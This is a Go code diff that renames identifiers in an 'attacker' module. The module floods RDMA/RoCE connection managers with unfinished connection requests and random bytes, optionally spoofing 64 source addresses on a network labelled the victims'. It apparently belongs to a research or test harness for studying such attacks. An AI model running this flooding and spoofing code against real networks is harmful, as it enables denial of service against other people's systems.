@@ -12,9 +12,9 @@ import (
 // floodRequests sends requests for connections, of ever new queue pairs and identities, to the
 // listeners of the right victim. Nobody completes them.
 func floodRequests(a *attacker) error {
-	return a.floodManagers(func(g *gun, message *[mad.Len]byte, port uint16) error {
+	return a.floodManagers(func(s *sender, message *[mad.Len]byte, port uint16) error {
 		var private [mad.IPHeaderLen]byte
-		header := mad.IPHeader{Source: g.from.Addr(), Destination: g.to.Addr(), SourcePort: uint16(a.rng.Uint32())}
+		header := mad.IPHeader{Source: s.from.Addr(), Destination: s.to.Addr(), SourcePort: uint16(a.rng.Uint32())}
 		header.Encode(&private)
 		r := mad.REQ{
 			TransactionID: a.rng.Uint64(), LocalCommID: a.rng.Uint32(), CAGUID: a.rng.Uint64(), QPN: a.rng.Uint32N(1<<24-2) + 2,
@@ -23,7 +23,7 @@ func floodRequests(a *attacker) error {
 			PrivateData: private[:],
 			Primary: mad.Path{
 				LocalLID: mad.PermissiveLID, RemoteLID: mad.PermissiveLID, HopLimit: 64, AckTimeout: 17,
-				LocalGID: verbs.GIDFromAddr(g.from.Addr()), RemoteGID: verbs.GIDFromAddr(g.to.Addr()),
+				LocalGID: verbs.GIDFromAddr(s.from.Addr()), RemoteGID: verbs.GIDFromAddr(s.to.Addr()),
 			},
 		}
 		return r.Encode(message)
@@ -32,7 +32,7 @@ func floodRequests(a *attacker) error {
 
 // floodMessages sends random bytes to the connection managers.
 func floodMessages(a *attacker) error {
-	return a.floodManagers(func(_ *gun, message *[mad.Len]byte, _ uint16) error {
+	return a.floodManagers(func(_ *sender, message *[mad.Len]byte, _ uint16) error {
 		for i := range message {
 			message[i] = byte(a.rng.Uint32())
 		}
@@ -44,34 +44,34 @@ func floodMessages(a *attacker) error {
 	})
 }
 
-func (a *attacker) floodManagers(fill func(g *gun, message *[mad.Len]byte, port uint16) error) error {
+func (a *attacker) floodManagers(fill func(s *sender, message *[mad.Len]byte, port uint16) error) error {
 	var message [mad.Len]byte
-	var guns []*gun
+	var senders []*sender
 	for _, end := range a.ends[2:] {
 		if a.row.from != bySpoofing {
-			g, err := a.socket(end.Addr)
+			s, err := a.socket(end.Addr)
 			if err != nil {
 				return err
 			}
-			guns = append(guns, g)
+			senders = append(senders, s)
 			continue
 		}
 		for host := range 64 { // of the network of the victims
 			from := netip.AddrFrom4([4]byte{10, 66, 0, byte(100 + host)})
-			g, err := aimAs(bySpoofing, from, netip.AddrPortFrom(from, 4791), end.Addr)
+			s, err := newSenderAs(bySpoofing, from, netip.AddrPortFrom(from, 4791), end.Addr)
 			if err != nil {
 				return err
 			}
-			guns = append(guns, g)
-			a.guns = append(a.guns, g)
+			senders = append(senders, s)
+			a.senders = append(a.senders, s)
 		}
 	}
 	for !a.stopped() {
-		for i, g := range guns {
-			if err := fill(g, &message, a.ends[2+2*i/len(guns)].Listener); err != nil {
+		for i, s := range senders {
+			if err := fill(s, &message, a.ends[2+2*i/len(senders)].Listener); err != nil {
 				return err
 			}
-			g.fire(&wire.Packet{
+			s.send(&wire.Packet{
 				Opcode: wire.UDSendOnly, DestQP: 1, PSN: a.rng.Uint32() & wire.PSNMask,
 				DETH: wire.DETH{QKey: cm.QKey, SrcQP: 1}, Payload: message[:],
 			})
